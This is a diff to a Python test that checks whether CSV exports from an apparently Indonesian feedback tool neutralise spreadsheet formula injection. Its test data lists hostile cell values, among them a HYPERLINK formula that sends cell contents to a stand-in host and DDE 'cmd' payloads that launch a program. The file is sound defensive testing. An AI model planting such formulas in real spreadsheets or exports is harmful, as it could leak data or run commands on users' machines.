@@ -4,6 +4,7 @@ results of the queue tab) neutralises cells a spreadsheet program would execute.
 from __future__ import annotations
 
 import csv
+from collections.abc import Callable
 from pathlib import Path
 
 from netral.records import Answer
@@ -15,10 +16,10 @@ FORMULAS = ['=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', "+cmd|' /C calc'!
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
-def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
+def test_csv_exports_neutralise_formulas(tmp_path: Path, store_at: Callable[[Path], Path | str]) -> None:
     assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
     assert safe_cell("Apakah PNS boleh?") == "Apakah PNS boleh?" and safe_cell(-1) == -1
-    store = FeedbackStore(tmp_path / "f.sqlite")
+    store = FeedbackStore(store_at(tmp_path / "f.sqlite"))
     for f in FORMULAS:
         store.add(Answer(question=f, answer=f, verdict="informasi", backend=f), -1, comment=f, mode=f)
     exported = store.export_csv(tmp_path / "masukan.csv")
